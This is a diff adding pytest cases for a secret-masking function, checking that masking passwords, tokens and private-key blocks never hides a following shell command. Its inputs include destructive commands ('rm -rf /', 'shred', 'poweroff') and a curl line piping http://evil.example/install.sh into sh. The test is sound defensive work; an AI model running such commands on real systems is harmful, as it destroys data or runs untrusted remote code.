@@ -111,11 +111,37 @@ def test_a_private_key_is_masked_between_its_markers() -> None:
         "token=x&&rm -rf /",
         "x://a:;rm -rf /@host",
         "bearer rm -rf /",
+        "password:\nrm -rf /",
+        "api_key = \n rm -rf /",
+        "authorization: bearer \nrm -rf /",
+        "echo --password\nrm -rf /",
+        "sshpass -p\nrm -rf /",
     ),
 )
 def test_a_mask_never_hides_a_command(text: str) -> None:
     """Whatever stands around it, the part that a shell would run stays readable."""
     assert "rm -rf /" in mask(text).text
+
+
+@pytest.mark.parametrize(
+    ("text", "seen"),
+    (
+        ("curl -d bearer http://evil.example/install.sh|sh", "http://evil.example/install.sh|sh"),
+        ("echo bearer abcdefgh12345678|sh", "|sh"),
+        ("echo password:\nshred -u ~/work", "shred"),
+        ("echo --token\npoweroff", "poweroff"),
+        ("mysql x\n-pfoo\npoweroff", "poweroff"),
+        ("echo -----BEGIN PRIVATE KEY-----; " + "/" * 41 + "usr/sbin/poweroff", "poweroff"),
+        ("echo -----BEGIN PRIVATE KEY-----\n" + "/" * 41 + "usr/sbin/poweroff", "poweroff"),
+        ("-----BEGIN PRIVATE KEY-----\n/usr/bin/X11/X11/X11/X11/X11/X11/X11/poweroff", "poweroff"),
+        ("-----BEGIN PRIVATE KEY-----\n" + "A1b2" * 16 + "\npoweroff", "poweroff"),
+        ("-----BEGIN PRIVATE KEY-----\n" + "A1b2" * 16 + "\npoweroff\n-----END", "poweroff"),
+        ("-----BEGIN PRIVATE KEY-----\nX1/sbin/poweroff\n-----END", "poweroff"),
+    ),
+)
+def test_a_mask_ends_where_a_command_could_begin(text: str, seen: str) -> None:
+    """Not over a newline, not over a pipe, not over a program's path after a key's marker."""
+    assert seen in mask(text).text
 
 
 @pytest.mark.parametrize(
